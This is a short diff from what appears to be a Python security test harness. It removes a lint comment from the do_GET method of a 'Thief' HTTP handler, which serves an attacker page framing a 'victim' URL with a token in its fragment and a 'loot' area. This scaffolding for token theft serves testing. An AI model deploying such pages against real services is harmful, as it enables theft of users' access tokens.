@@ -100,7 +100,7 @@ class Thief(BaseHTTPRequestHandler):
     api = ""
     token = ""
 
-    def do_GET(self) -> None:  # noqa: N802
+    def do_GET(self) -> None:
         page = f"""<!doctype html><html><body>
 <iframe id="victim" src="{self.api}/#token={self.token}"></iframe>
 <pre id="loot">waiting</pre>
